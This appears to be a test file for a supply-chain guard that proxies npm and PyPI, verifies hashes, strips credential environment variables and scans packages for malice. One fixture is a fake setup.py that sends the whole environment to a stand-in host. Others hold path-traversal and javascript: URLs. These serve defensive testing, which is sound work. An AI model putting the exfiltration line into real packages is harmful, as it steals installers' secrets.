import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { classifyEnvVar, scrubEnv } from '../../src/guard/env.js';
import { verifyHexHashes, verifyNpmIntegrity } from '../../src/guard/integrity.js';
import { detectInstaller, findBypassArgs, guardedEnvironment } from '../../src/guard/launch.js';
import { filterPackument, parseNpmPath } from '../../src/guard/npm-packument.js';
import { loadPolicy, matchesRule, parseDuration, parsePackageRule, policyFromDocument } from '../../src/guard/policy.js';
import { parseSimpleHtml, renderSimpleHtml, versionFromFilename, wantsJson } from '../../src/guard/pypi-simple.js';
import { ScanCache } from '../../src/guard/scanner.js';
import { parseSimpleHtml as parseClientHtml } from '../../src/ecosystems/pypi/simple.js';

test('policy: defaults, kebab-case keys, durations and rules', () => {
  const p = policyFromDocument({ 'block-at': 'suspicious', 'min-release-age': '72h', allow: ['npm:@types/*', 'pypi:Foo_Bar==1.0'], deny: [{ ecosystem: 'npm', name: 'evil' }], 'fail-closed': false });
  assert.equal(p.blockAt, 'suspicious');
  assert.equal(p.minReleaseAgeMs, 72 * 3_600_000);
  assert.equal(p.failClosedOnScanError, false);
  assert.ok(matchesRule(p.allow, 'npm', '@types/node', '1.0.0'));
  assert.ok(!matchesRule(p.allow, 'pypi', '@types/node', '1.0.0'));
  assert.ok(matchesRule(p.allow, 'pypi', 'foo.bar', '1.0'));
  assert.ok(!matchesRule(p.allow, 'pypi', 'foo-bar', '2.0'));
  assert.ok(matchesRule(p.deny, 'npm', 'evil', undefined));
  assert.equal(parseDuration(2, 'x'), 2 * 86_400_000);
  assert.deepEqual(parsePackageRule('npm:@scope/name@1.2.3', 'x'), { ecosystem: 'npm', name: '@scope/name', version: '1.2.3' });
  assert.throws(() => policyFromDocument({ 'block-at': 'clean' }), /block-at/);
  assert.throws(() => policyFromDocument({ blockAt: 'malicious' }), /unknown key 'blockAt'/);
  assert.throws(() => parseDuration('3 fortnights', 'min-release-age'), /duration/);
});

test('policy files: YAML and JSON, errors are E_CONFIG', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-policy-'));
  try {
    writeFileSync(join(dir, 'p.yaml'), 'block-at: suspicious\ndeny:\n  - pypi:evil\n');
    writeFileSync(join(dir, 'p.json'), '{"min-release-age": "1d"}');
    writeFileSync(join(dir, 'bad.json'), '{');
    assert.equal((await loadPolicy(join(dir, 'p.yaml'))).blockAt, 'suspicious');
    assert.equal((await loadPolicy(join(dir, 'p.json'))).minReleaseAgeMs, 86_400_000);
    await assert.rejects(loadPolicy(join(dir, 'bad.json')), (e: Error & { code?: string }) => e.code === 'E_CONFIG');
    await assert.rejects(loadPolicy(join(dir, 'missing.yaml')), /cannot read policy file/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('PEP 503 HTML: relative links, entities, yanked, hostile names skipped; render round-trips', () => {
  const html = `<html><body>
<a href="../../files/a/pkg-1.0.tar.gz#sha256=${'ab'.repeat(32)}" data-requires-python="&gt;=3.8" data-yanked="">pkg-1.0.tar.gz</a>
<A HREF='https://cdn.example/pkg-1.1-py3-none-any.whl#sha256=${'cd'.repeat(32)}'>pkg-1.1-py3-none-any.whl</A>
<a href="https://cdn.example/x/..%2f..%2fetc%2fpasswd">..</a>
<a name="no-href">nothing</a><abbr>not a link</abbr>
</body></html>`;
  const p = parseSimpleHtml(html, 'https://idx.example/simple/pkg/', 'pkg');
  assert.deepEqual(p.files.map((f) => f.filename), ['pkg-1.0.tar.gz', 'pkg-1.1-py3-none-any.whl']);
  assert.equal(p.files[0]!.url, 'https://idx.example/files/a/pkg-1.0.tar.gz');
  assert.equal(p.files[0]!.requiresPython, '>=3.8');
  assert.equal(p.files[0]!.yanked, true);
  assert.equal(p.files[1]!.hashes.sha256, 'cd'.repeat(32));
  const again = parseSimpleHtml(renderSimpleHtml(p), 'https://idx.example/simple/pkg/', 'pkg');
  assert.deepEqual(again.files, p.files);
});

test('HTML parsing is linear on hostile input', () => {
  const hostile = '<a '.repeat(50_000) + '<a href="' + 'x'.repeat(100_000);
  const start = performance.now();
  parseSimpleHtml(hostile, 'https://idx.example/simple/p/', 'p');
  // Anchors that are never closed: looking for each one's `</a` from scratch would be quadratic.
  const unclosed = parseSimpleHtml('<a href="p-1.0.tar.gz">p-1.0.tar.gz'.repeat(60_000), 'https://idx.example/simple/p/', 'p');
  assert.equal(unclosed.files.length, 60_000);
  assert.ok(performance.now() - start < 2_000);
});

test('the proxy reads index pages like the registry client: same URLs and hashes, <base href>, http(s) only', () => {
  const html = `<html><head><base href="https://cdn.example/pkgs/"></head><body>
<a href="pkg-1.0.tar.gz#SHA256=${'AB'.repeat(32)}">pkg-1.0.tar.gz</a>
<a href="/other/pkg-1.1-py3-none-any.whl#md5=${'cd'.repeat(16)}">pkg-1.1-py3-none-any.whl</a>
<a href="file:///etc/pkg-1.2.tar.gz">pkg-1.2.tar.gz</a>
<a href="javascript:alert(1)">pkg-1.3.tar.gz</a>
</body></html>`;
  const page = 'https://idx.example/simple/pkg/';
  const proxy = parseSimpleHtml(html, page, 'pkg');
  const client = parseClientHtml(html, page, 'pkg');
  assert.deepEqual(
    proxy.files.map((f) => [f.url, f.hashes]),
    [
      ['https://cdn.example/pkgs/pkg-1.0.tar.gz', { sha256: 'ab'.repeat(32) }],
      ['https://cdn.example/other/pkg-1.1-py3-none-any.whl', { md5: 'cd'.repeat(16) }],
    ],
  );
  assert.deepEqual(client.files.map((f) => [f.url, f.hashes]), proxy.files.map((f) => [f.url, f.hashes]));
});

test('content negotiation and file-name versions', () => {
  assert.equal(wantsJson('application/vnd.pypi.simple.v1+json, application/vnd.pypi.simple.v1+html; q=0.1, text/html; q=0.01'), true);
  assert.equal(wantsJson('text/html'), false);
  assert.equal(wantsJson('application/vnd.pypi.simple.v1+json;q=0.1, text/html'), false);
  assert.equal(wantsJson(undefined), false);
  assert.equal(versionFromFilename('python-dateutil', 'python-dateutil-2.8.2.tar.gz'), '2.8.2');
  assert.equal(versionFromFilename('Foo.Bar', 'foo_bar-1.0-py3-none-any.whl'), '1.0');
  assert.equal(versionFromFilename('pkg', 'pkg-1.0.zip'), '1.0');
  assert.equal(versionFromFilename('pkg', 'other-1.0.tar.gz'), undefined);
});

test('npm paths: plain, scoped (both spellings), tarballs, junk', () => {
  assert.deepEqual(parseNpmPath('left-pad'), { kind: 'packument', name: 'left-pad' });
  assert.deepEqual(parseNpmPath('@scope%2fthing'), { kind: 'packument', name: '@scope/thing' });
  assert.deepEqual(parseNpmPath('@scope%2Fthing'), { kind: 'packument', name: '@scope/thing' });
  assert.deepEqual(parseNpmPath('@scope/thing/-/thing-1.0.0.tgz'), { kind: 'tarball', name: '@scope/thing', file: 'thing-1.0.0.tgz' });
  assert.equal(parseNpmPath('..%2f..%2fetc'), undefined);
  assert.equal(parseNpmPath('%E0%A4%A'), undefined);
  assert.equal(parseNpmPath('-/v1/search')?.kind, 'other');
});

test('packument filtering: hidden versions removed, dist-tags fixed, tarballs rewritten', () => {
  const doc = {
    name: 'p',
    'dist-tags': { latest: '2.0.0', next: '3.0.0-rc.1', old: '1.0.0' },
    versions: {
      '1.0.0': { dist: { tarball: 'https://r/p/-/p-1.0.0.tgz', integrity: 'sha512-x' } },
      '1.5.0': { dist: { tarball: 'https://r/p/-/p-1.5.0.tgz' } },
      '2.0.0': { dist: { tarball: 'https://r/p/-/p-2.0.0.tgz' } },
      '3.0.0-rc.1': { dist: { tarball: 'https://r/p/-/p-3.0.0-rc.1.tgz' } },
      '4.0.0': { dist: {} },
    },
    time: { '1.0.0': 't1', '2.0.0': 't2' },
  };
  const r = filterPackument(doc, 'p', (v) => (v === '2.0.0' || v === '3.0.0-rc.1' ? 'bad' : undefined), (f) => `http://proxy/npm/p/-/${f}`);
  assert.ok(r !== undefined);
  assert.deepEqual(Object.keys(r.doc.versions as object), ['1.0.0', '1.5.0']);
  assert.deepEqual(r.doc['dist-tags'], { latest: '1.5.0', old: '1.0.0' });
  assert.equal((r.doc.time as Record<string, string>)['2.0.0'], undefined);
  assert.equal(((r.doc.versions as Record<string, { dist: { tarball: string } }>)['1.0.0']!).dist.tarball, 'http://proxy/npm/p/-/p-1.0.0.tgz');
  assert.deepEqual(r.hidden.map((h) => h.version).sort(), ['2.0.0', '3.0.0-rc.1', '4.0.0']);
  assert.equal(r.tarballs.find((t) => t.version === '1.0.0')?.integrity, 'sha512-x');
  assert.equal(filterPackument({ versions: [] }, 'p', () => undefined, (f) => f), undefined);
});

test('integrity: hex hashes and SRI, strongest wins, weak-only refused', () => {
  const data = new TextEncoder().encode('artifact');
  const h = (a: string, enc: 'hex' | 'base64'): string => createHash(a).update(data).digest(enc);
  assert.deepEqual(verifyHexHashes(data, { sha256: h('sha256', 'hex') }), { ok: true, algorithm: 'sha256' });
  assert.equal(verifyHexHashes(data, { sha256: h('sha256', 'hex').replace(/^./, '0') === h('sha256', 'hex') ? '1'.repeat(64) : '0' + h('sha256', 'hex').slice(1) }).ok, false);
  assert.equal(verifyHexHashes(data, { md5: h('md5', 'hex') }).ok, false);
  assert.equal(verifyNpmIntegrity(data, `sha1-${h('sha1', 'base64')} sha512-${h('sha512', 'base64')}`, undefined).ok, true);
  assert.equal(verifyNpmIntegrity(data, `sha512-${h('sha256', 'base64')}`, undefined).ok, false);
  assert.equal(verifyNpmIntegrity(data, undefined, h('sha1', 'hex')).ok, true);
  assert.equal(verifyNpmIntegrity(data, undefined, undefined).ok, false);
});

test('credential env classification', () => {
  assert.equal(classifyEnvVar('AWS_SECRET_ACCESS_KEY', 'x')?.rule, 'prefix');
  assert.equal(classifyEnvVar('GITHUB_TOKEN', 'x')?.rule, 'listed');
  assert.equal(classifyEnvVar('STRIPE_API_KEY', 'x')?.rule, 'name-pattern');
  assert.equal(classifyEnvVar('DB_PASSWORD', 'x')?.rule, 'name-pattern');
  assert.equal(classifyEnvVar('npm_config_//registry.npmjs.org/:_authToken', 'x')?.provider, 'npm');
  assert.equal(classifyEnvVar('RANDOM', 'npm_' + 'a'.repeat(36))?.rule, 'token-value');
  for (const benign of ['PATH', 'HOME', 'TOKENIZERS_PARALLELISM', 'KEYBOARD_LAYOUT', 'GIT_AUTHOR_NAME', 'LANG', 'PASSAGE']) {
    assert.equal(classifyEnvVar(benign, '/usr/bin'), undefined, benign);
  }
  const s = scrubEnv({ PATH: '/bin', GH_TOKEN: 'x', AWS_PROFILE: 'p' }, ['AWS_PROFILE']);
  assert.deepEqual(Object.keys(s.env).sort(), ['AWS_PROFILE', 'PATH']);
  assert.deepEqual(s.removed.map((r) => r.name), ['GH_TOKEN']);
});

test('installers, bypass options and the guarded environment', () => {
  assert.equal(detectInstaller(['/usr/bin/python3.12', '-m', 'pip', 'install', 'x']).family, 'pypi');
  assert.equal(detectInstaller(['pip3']).family, 'pypi');
  assert.equal(detectInstaller(['yarn']).family, 'npm');
  assert.equal(detectInstaller(['make']).family, undefined);
  assert.deepEqual(findBypassArgs(detectInstaller(['pip']), ['pip', 'install', '-i', 'u', '--extra-index-url=u2', 'x']), ['-i', '--extra-index-url']);
  assert.deepEqual(findBypassArgs(detectInstaller(['npm']), ['npm', 'i', '-f', '--@corp:registry=u']), ['--@corp:registry']);
  const g = guardedEnvironment({ PATH: '/bin', PIP_EXTRA_INDEX_URL: 'x', NPM_CONFIG_REGISTRY: 'y', 'npm_config_@corp:registry': 'z', NPM_TOKEN: 't' }, 'http://127.0.0.1:5000', []);
  assert.equal(g.env.PIP_INDEX_URL, 'http://127.0.0.1:5000/pypi/simple/');
  assert.equal(g.env.npm_config_registry, 'http://127.0.0.1:5000/npm/');
  assert.equal(g.env.YARN_UNSAFE_HTTP_WHITELIST, '127.0.0.1');
  for (const gone of ['PIP_EXTRA_INDEX_URL', 'NPM_CONFIG_REGISTRY', 'npm_config_@corp:registry', 'NPM_TOKEN']) assert.equal(g.env[gone], undefined, gone);
});

test('scan cache: persisted by sha256, failures not remembered, foreign files ignored', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-cache-'));
  try {
    const file = join(dir, 'cache.json');
    let calls = 0;
    const scanner = async (bytes: Uint8Array): Promise<{ verdict: 'clean'; score: number; reason: string; error?: string }> => {
      calls++;
      return bytes[0] === 0 ? { verdict: 'clean', score: 0, reason: 'x', error: 'boom' } : { verdict: 'clean', score: 0, reason: 'ok' };
    };
    const a = new ScanCache(scanner, { file, scannerVersion: '1' });
    const sha = 'a'.repeat(64);
    await a.scan(sha, new Uint8Array([1]), 'f', { ecosystem: 'npm', packageName: 'p' });
    await a.scan('b'.repeat(64), new Uint8Array([0]), 'f', { ecosystem: 'npm', packageName: 'p' });
    await a.scan('b'.repeat(64), new Uint8Array([0]), 'f', { ecosystem: 'npm', packageName: 'p' });
    assert.equal(calls, 3);
    await a.flush();
    const b = new ScanCache(scanner, { file, scannerVersion: '1' });
    await b.load();
    assert.equal((await b.scan(sha, new Uint8Array([1]), 'f', { ecosystem: 'npm', packageName: 'p' })).cached, true);
    const c = new ScanCache(scanner, { file, scannerVersion: '2' });
    await c.load();
    assert.equal(c.size, 0);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('worker-thread scanner: real analysis off the main thread, runaway scans stopped', async () => {
  const { createWorkerScanner } = await import('../../src/guard/worker-scanner.js');
  const { makeSdist, makeWheel } = await import('../helpers/archives.js');
  const pool = createWorkerScanner({ threads: 1, timeoutMs: 60_000 });
  try {
    const wheel = makeWheel('okpkg', '1.0', { 'okpkg/__init__.py': 'A = 1\n' });
    const evil = makeSdist('evilpkg', '1.0', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n' });
    const [ok, bad] = await Promise.all([
      pool.scan(wheel, 'okpkg-1.0-py3-none-any.whl', { ecosystem: 'pypi', packageName: 'okpkg' }),
      pool.scan(evil, 'evilpkg-1.0.tar.gz', { ecosystem: 'pypi', packageName: 'evilpkg' }),
    ]);
    assert.equal(ok.error, undefined, ok.error);
    assert.equal(ok.verdict, 'clean');
    assert.equal(bad.verdict, 'malicious');
    assert.equal(wheel.byteLength > 0, true, 'the caller keeps its bytes');
  } finally {
    await pool.close();
  }
  const strict = createWorkerScanner({ threads: 1, timeoutMs: 1 });
  try {
    const out = await strict.scan(new Uint8Array(10), 'x.whl', { ecosystem: 'pypi', packageName: 'x' });
    assert.match(out.error ?? '', /scan stopped after 1 ms/);
  } finally {
    await strict.close();
  }
});
